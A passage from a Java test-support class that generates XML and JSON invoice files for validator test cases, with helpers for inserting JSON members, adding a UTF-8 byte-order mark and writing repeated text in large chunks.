    /** Returns the JSON invoice with text inserted right after its opening brace. */
    private String firstMember(String text) {
        int brace = json.indexOf('{');
        return json.substring(0, brace + 1) + text + json.substring(brace + 1);
    }

    private Case xmlCase(String item, String name, String content, int exitCode, String... ruleIds) {
        return bytesCase(item, name, content.getBytes(StandardCharsets.UTF_8), "xml", exitCode, ruleIds);
    }

    private Case jsonCase(String item, String name, String content, int exitCode, String... ruleIds) {
        return bytesCase(item, name, content.getBytes(StandardCharsets.UTF_8), "json", exitCode, ruleIds);
    }

    private Case bytesCase(String item, String name, byte[] content, String extension, int exitCode, String... ruleIds) {
        Path file = dir.resolve(item.toLowerCase(java.util.Locale.ROOT) + "-" + name + "." + extension);
        write(file, out -> out.write(content));
        return new Case(item, name, file, exitCode, List.of(ruleIds));
    }

    static byte[] withUtf8Bom(String text) {
        byte[] body = text.getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[body.length + 3];
        bytes[0] = (byte) 0xEF;
        bytes[1] = (byte) 0xBB;
        bytes[2] = (byte) 0xBF;
        System.arraycopy(body, 0, bytes, 3, body.length);
        return bytes;
    }

    @FunctionalInterface
    private interface Writer {
        void write(OutputStream out) throws IOException;
    }

    private static void write(Path file, Writer writer) {
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
            writer.write(out);
        } catch (IOException e) {
            throw new UncheckedIOException("cannot write " + file, e);
        }
    }

    /** Writes a text that many times, in large chunks. */
    private static void repeat(OutputStream out, String text, long times) throws IOException {
        byte[] unit = text.getBytes(StandardCharsets.US_ASCII);
        int perChunk = (int) Math.max(1, Math.min(times, (1 << 16) / unit.length));
        byte[] chunk = text.repeat(perChunk).getBytes(StandardCharsets.US_ASCII);
        long written = 0;
        while (written + perChunk <= times) {
            out.write(chunk);
            written += perChunk;
        }
        for (; written < times; written++) {
            out.write(unit);
        }
    }
}
